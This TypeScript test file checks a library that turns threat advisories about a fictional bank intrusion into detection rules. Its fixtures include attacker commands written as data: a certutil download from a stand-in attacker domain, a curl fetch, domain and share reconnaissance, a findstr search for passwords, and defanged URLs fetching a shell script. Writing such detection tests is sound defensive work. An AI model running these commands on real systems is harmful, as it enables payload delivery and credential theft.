import { findIndicators, generate } from '@tripline/advisory';
import { markdownAdvisory, textAdvisory } from './support/documents.js';

/** The rules on what was typed, and on what else a text tells, as text. */
async function rulesOf(text: string): Promise<string> {
  const doc = await markdownAdvisory(`# Heron Fog\n\nThe intruders broke into Windows hosts of a bank.\n\n${text}\n`);
  return generate(doc, { targets: [] })
    .rules.map(({ yaml }) => yaml)
    .join('\n');
}

const typed = (line: string): string => `They ran:\n\n\`\`\`\n${line}\n\`\`\``;

describe('programs that a sign joins without a blank', () => {
  it('are programs of their own, and none has the other’s words', async () => {
    const yaml = await rulesOf(
      typed(
        'cmd /c cd /d "c:\\PerfLogs"&certutil.exe -urlcache -split -f http://fogheronbank.com/a c:\\perflogs\\hrn.t&echo hrnmark&cd',
      ),
    );
    expect(yaml).toContain("'-urlcache'");
    expect(yaml).not.toContain("'echo'");
  });

  it('are not parts of an address or a word', async () => {
    const yaml = await rulesOf(typed('curl.exe -o hrn.zip "http://fogheronbank.com/get?a=1&net=heron&sort=b"'));
    expect(yaml).toContain('hrn.zip');
  });

  it('behind a pipe only thin out what the one before prints', async () => {
    const yaml = await rulesOf(typed('tasklist /v|findstr heronproc.exe && sc.exe query heronsvc'));
    expect(yaml).not.toContain('findstr');
  });

  it('that search files are kept', async () => {
    expect(await rulesOf(typed('findstr /s /i heronpassword c:\\shares\\*.xml'))).toContain('findstr.exe');
  });
});

describe('a value of one run or one victim', () => {
  it('is not asked for: the number of a process', async () => {
    const yaml = await rulesOf(typed('wmic process where processid=8528 get commandline'));
    expect(yaml).toContain('wmic.exe');
    expect(yaml).not.toContain('8528');
  });

  it('is not asked for: a host whose shares are listed', async () => {
    const yaml = await rulesOf(typed('net view \\\\192.168.7.2'));
    expect(yaml).toContain(' view ');
    expect(yaml).not.toContain('192.168.7.2');
  });

  it('is asked for without the marks that a script or page puts before quotation marks', async () => {
    const yaml = await rulesOf(
      typed('net group \\"Heron Admins\\" /domain\nnet view /all\nnltest /domain_trusts\nsysteminfo'),
    );
    expect(yaml).toContain('"Heron Admins"');
  });
});

describe('hexadecimal digits', () => {
  const DIGITS = '7adf76418856966effc9ccf8a21d1b12';
  const of = async (text: string): Promise<readonly string[]> =>
    findIndicators(await textAdvisory(text)).map(({ type, value }) => `${type} ${value}`);

  it.each([`RC4 key: ${DIGITS}`, `Field\nRC4 key\n${DIGITS}`, `The seed is ${DIGITS} in all samples.`])(
    'that are a key are no hash of a file: %s',
    async (text) => {
      expect(await of(text)).toEqual([]);
    },
  );

  it.each([`MD5: ${DIGITS}`, `Key of the campaign.\nheron.exe ${DIGITS}`])('are one else: %s', async (text) => {
    expect(await of(text)).toContain(`md5 ${DIGITS}`);
  });
});

describe('names of files', () => {
  it('that a scan with YARA found within a file are not looked for', async () => {
    const yaml = await rulesOf('yara -s fen.yar fen.dll 0x8a28:$s1: InnerFen.dll 0x4d:$s2: This program cannot be run');
    expect(yaml).not.toContain('InnerFen.dll');
  });

  it('that an analyst gave are not looked for', async () => {
    const yaml = await rulesOf(
      'Files of the intruders: extracted-hrn-beacon.exe, hrnloader.exe and hrnfetch.exe were executed.',
    );
    expect(yaml).toContain('hrnloader.exe');
    expect(yaml).not.toContain('extracted-hrn-beacon');
  });
});

describe('a library that the text calls clean', () => {
  it('is not looked for', async () => {
    const yaml = await rulesOf(
      'The loader loads the clean library hrnfenlib.dll of a vendor and later hrnpayload.dll from the same folder.',
    );
    expect(yaml).toContain('hrnpayload.dll');
    expect(yaml).not.toContain('hrnfenlib.dll');
  });

  it.each([
    'The legitimate library hrnfenlib.dll was replaced, and the payload was loaded.',
    'The original name of the library hrnfenlib.dll stands in its resources.',
  ])('is looked for where something took its place: %s', async (text) => {
    expect(await rulesOf(text)).toContain('hrnfenlib.dll');
  });
});

describe('what whoever publishes the report has', () => {
  it('is not looked for: the domain of a mailbox for the press', async () => {
    const told =
      'Otter Fen, www.otterfenlab.com. Write to press@otterfenlab.com. The loader connects to fogheronbank.com/in.php often.';
    const yaml = await rulesOf(told);
    expect(yaml).not.toContain('otterfenlab.com');
    expect(yaml).toContain('fogheronbank.com');
  });

  it('is not a mailbox that intruders have too', async () => {
    const yaml = await rulesOf(
      'Victims are told to write to support@fogheronbank.com. The loader connects to www.fogheronbank.com often.',
    );
    expect(yaml).toContain('fogheronbank.com');
  });
});

describe('a place where somebody published a proof of concept', () => {
  it.each(['github[.]com/otterfen/heron-poc', 'gitlab[.]com/otterfen/CVE-2026-1234'])(
    'is not looked for: %s',
    async (place) => {
      expect(await rulesOf(`The code lies at hxxps://${place} since May.`)).not.toContain('otterfen');
    },
  );

  it.each(['github[.]com/otterfen/heron-poc/raw/main/hrn.sh', 'github[.]com/otterfen/herontools'])(
    'is another where the intruders keep files: %s',
    async (place) => {
      expect(await rulesOf(`The loader fetches hxxps://${place} then.`)).toContain('otterfen');
    },
  );
});
